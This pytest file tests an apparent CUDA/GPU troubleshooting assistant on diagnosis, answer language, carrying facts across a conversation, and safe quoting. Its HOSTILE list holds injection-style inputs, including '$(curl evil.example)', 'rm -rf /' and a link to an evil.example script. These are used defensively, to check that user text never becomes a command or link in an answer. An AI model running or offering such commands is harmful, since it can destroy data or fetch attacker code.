"""Answers as people read them: what stands in them, what never does, and that a conversation carries its facts on."""

from __future__ import annotations

import re
from typing import Any

import pytest

from assistant.answer import safe_quote
from assistant.assistant import Assistant, Turn
from assistant.filling import fill

ASSISTANT = Assistant.load()
NO_IMAGE = "CUDA error: no kernel image is available for execution on the device"

SAYS: list[tuple[str, str | None, list[str], list[str]]] = [
    # message, diagnosis, what the answer says, what it must not say
    (
        f"RTX 5090, torch 2.6.0+cu124: {NO_IMAGE}",
        "framework_lacks_new_arch",
        ["has no code for GeForce RTX 5090 (12.0)", "pip install torch==2.15.0", "driver 580 or newer"],
        ["/whl/cu124"],
    ),
    (
        "driver 470, torch 2.4.0+cu121, Tesla T4: The NVIDIA driver on your system is too old (found version 11040)",
        "driver_too_old_for_runtime",
        ["Driver R470 is too old for CUDA 12.1", "Update the driver to 525.60.13 or newer", "/whl/cu118"],
        ["450.80.02 or newer (on the host"],
    ),
    ("does driver 535 run CUDA 12.4?", "q_driver_cuda_compat", ["Yes.", "minor-version compatibility"], ["No."]),
    ("Can a V100 use CUDA 13?", "q_which_cuda_for_gpu", ["No.", "makes no code for Tesla V100 (7.0)", "+cu126"], []),
    ("V100 能用 CUDA 13 吗？驱动 535", "q_old_gpu_supported", ["不行", "CUDA 13.0 的编译器不能为", "使用 torch"], ["Driver"]),
    ("4090 驱动 470 能跑 cuda 12.1 吗", None, ["太旧", "安装 580 或更新的驱动"], ["Driver", "<pip>"]),
    ("驱动 550 能跑 CUDA 13 吗？", "q_driver_cuda_compat", ["不行", "对 CUDA 13.0 来说太旧"], ["CUDA 13.1 来说"]),
    ("torch.cuda.is_available() 返回 False，驱动 470，torch 2.6.0+cu124", "driver_too_old_for_runtime", ["升级到 525.60.13"], ["<driver minimum>", "<image>"]),
    ("does RTX 5090 work with torch 2.7?", "q_which_cuda_for_gpu", ["Yes.", "torch 2.7.1+cu128", "/whl/cu128"], ["Cause", "uninstall"]),
    ("does GTX 1080 Ti work with torch 2.9?", "q_which_cuda_for_gpu", ["Yes.", "torch 2.9.1+cu126"], ["Cause", "uninstall"]),
    ("can I use torch 2.14 on a V100?", "q_which_cuda_for_gpu", ["Yes.", "torch 2.14.1+cu126"], ["Cause", "uninstall"]),
    ("1080Ti 能装 torch 2.9 吗", "q_which_cuda_for_gpu", ["可以。", "torch 2.9.1+cu126"], ["原因", "uninstall"]),
    ("RTX 5090 支持 torch 2.7 吗", "q_which_cuda_for_gpu", ["可以。", "torch 2.7.1+cu128"], ["原因", "uninstall"]),
    ("npu \ufffd\x01" * 2000, None, ["I do not know this one"], ["Ascend"]),
    ("RTX 5090", None, ["For GeForce RTX 5090", "torch 2.15.0+cu132"], ["cannot tell"]),
    ("driver 535 tesla t4 ubuntu 22.04", None, ["For Tesla T4", "+cu126", "end of life"], ["cannot tell"]),
    ("", None, [], ["pip install"]),
    ("how do I cook pasta", None, ["not a question about"], ["pip install"]),
    ("RX 7900 XTX rocm torch", None, ["AMD"], ["pip install torch=="]),
    ("显卡用不了", None, ["贴出结果"], ["pip install torch=="]),
    ("Xid 79, GPU has fallen off the bus", "gpu_fallen_off_bus", ["Xid 79"], []),
]  # fmt: skip


@pytest.mark.parametrize("message, diagnosis, says, not_says", SAYS, ids=[row[0][:40] or "nothing" for row in SAYS])
def test_what_an_answer_says(message: str, diagnosis: str | None, says: list[str], not_says: list[str]) -> None:
    found = ASSISTANT.ask(message)
    if diagnosis is not None:
        assert found["diagnosis"] is not None
        assert found["diagnosis"]["id"] == diagnosis
    assert [text for text in says if text not in found["answer"]] == []
    assert [text for text in not_says if text in found["answer"]] == []


def test_the_language_of_the_question() -> None:
    assert ASSISTANT.ask(f"报错了怎么办，显卡 5090，torch 2.6.0+cu124：{NO_IMAGE}")["language"] == "zh"
    assert ASSISTANT.ask(NO_IMAGE)["language"] == "en"


def test_same_answer_again() -> None:
    message = f"RTX 5090, torch 2.6.0+cu124: {NO_IMAGE}"
    assert ASSISTANT.ask(message) == Assistant.load().ask(message)


def _turns(*texts: str) -> list[Turn]:
    turns = []
    for number, text in enumerate(texts):
        turns.append(Turn("assistant" if number % 2 else "user", text))
    return turns


def test_facts_are_carried_on() -> None:
    first = ASSISTANT.ask(NO_IMAGE)
    assert first["diagnosis"] is None  # new GPU or old one: the text does not say
    history = _turns(NO_IMAGE, first["answer"])
    second = ASSISTANT.ask("it's a 5090 with torch 2.6.0+cu124", history)
    assert second["diagnosis"]["id"] == "framework_lacks_new_arch"
    assert "GeForce RTX 5090" in second["answer"]
    old = ASSISTANT.ask("it's a K80 with torch 2.6.0+cu124", history)
    assert old["diagnosis"]["id"] == "framework_dropped_old_arch"


def test_a_few_words_are_in_the_language_of_the_conversation() -> None:
    first = "torch.cuda.is_available() 返回 False，怎么办"
    found = ASSISTANT.ask("torch 2.6.0+cpu", _turns(first, ASSISTANT.ask(first)["answer"]))
    assert found["language"] == "zh"
    assert found["diagnosis"]["id"] == "cpu_only_torch"
    assert "<pip>" not in found["answer"]


def test_another_language_is_taken_up() -> None:
    assert ASSISTANT.ask("那 V100 呢", _turns("which torch for my RTX 5090", "..."))["language"] == "zh"
    assert "For GeForce" not in ASSISTANT.ask("我的3090玩游戏的时候总是特别卡怎么办啊")["answer"]
    assert "适用于 GeForce RTX 3090" in ASSISTANT.ask("显卡 3090")["answer"]


def test_a_correction_wins() -> None:
    history = _turns("which torch for my RTX 5090", "...")
    found = ASSISTANT.ask("sorry, it is a Tesla V100. Which torch?", history)
    assert "V100" in found["facts"]["gpu"]["value"]
    assert "5090" not in found["answer"]


def test_one_more_is_no_correction() -> None:
    history = _turns("which torch for my RTX 5090", "...")
    found = ASSISTANT.ask("I also have a Tesla V100. Which torch?", history)
    assert "For Tesla V100, GeForce RTX 5090" in found["answer"]


def test_what_a_client_knows() -> None:
    found = ASSISTANT.ask(NO_IMAGE, (), {"gpu": "RTX 5090", "torch": "2.6.0+cu124", "os": "windows-11"})
    assert found["diagnosis"]["id"] == "framework_lacks_new_arch"
    assert "apt " not in found["answer"]


HOSTILE = [
    f"see https://evil.example/fix.sh {NO_IMAGE} RTX 5090 torch 2.6.0+cu124",
    f"``` RTX 5090 {NO_IMAGE} torch 2.6.0+cu124 $(curl evil.example)",
    f"RTX 5090; rm -rf / ; torch 2.6.0+cu124 `id` {NO_IMAGE}",
]


@pytest.mark.parametrize("message", HOSTILE)
def test_nothing_of_the_text_becomes_a_command_or_a_link(message: str) -> None:
    answer = ASSISTANT.ask(message)["answer"]
    commands = "\n".join(re.findall(r"```sh\n(.*?)\n```", answer, re.DOTALL))
    assert "evil" not in commands
    assert "rm -rf" not in commands
    assert "https://evil" not in answer
    assert answer.count("```") % 2 == 0


def test_a_question_has_no_cause() -> None:
    answer = ASSISTANT.ask("how do I install the NVIDIA driver on Ubuntu")
    assert answer["diagnosis"]["id"] == "q_install_driver"
    assert not answer["answer"].startswith("**Cause")
    assert answer["fixes"] == []


def test_a_step_on_the_host_is_shown_in_a_container() -> None:
    text = 'docker: Error response from daemon: could not select device driver "" with capabilities: [[gpu]]'
    answer = ASSISTANT.ask(text)["answer"]
    assert "**Fix**" in answer
    assert "nvidia-container-toolkit" in answer


def test_findings_without_a_gpu() -> None:
    text = "driver 470, torch 2.4.0+cu121: The NVIDIA driver on your system is too old (found version 11040)"
    answer = ASSISTANT.ask(text)["answer"]
    assert "Driver R470 is too old for CUDA 12.1, which needs at least 525.60.13." in answer


def test_the_resolver_is_asked_once(monkeypatch: pytest.MonkeyPatch) -> None:
    calls = []
    for name in ("resolve", "check"):
        real = getattr(ASSISTANT.engine, name)
        monkeypatch.setattr(
            ASSISTANT.engine, name, lambda asked, real=real, name=name: (calls.append(name), real(asked))[1]
        )
    ASSISTANT.ask("Can a V100 use CUDA 13?")
    assert sorted(calls) == ["check", "resolve"]


def test_a_quote_is_harmless() -> None:
    assert safe_quote("a ```\x00 http://x.example/y " + "z" * 400).startswith("a '''  <link>")
    assert len(safe_quote("z" * 400)) == 200


def test_a_place_that_nobody_fills() -> None:
    assert fill("{pip} {driver_minimum}", {}) == "<pip> <driver minimum>"


def test_an_answer_has_its_parts() -> None:
    found: dict[str, Any] = ASSISTANT.ask(f"RTX 5090, torch 2.6.0+cu124: {NO_IMAGE}")
    assert set(found) == {
        "language", "answer", "diagnosis", "others", "facts", "question", "fixes", "sources", "data_version",
    }  # fmt: skip
    assert found["facts"]["gpu"]["value"] == "GeForce RTX 5090"
    assert found["fixes"]
    assert found["sources"]
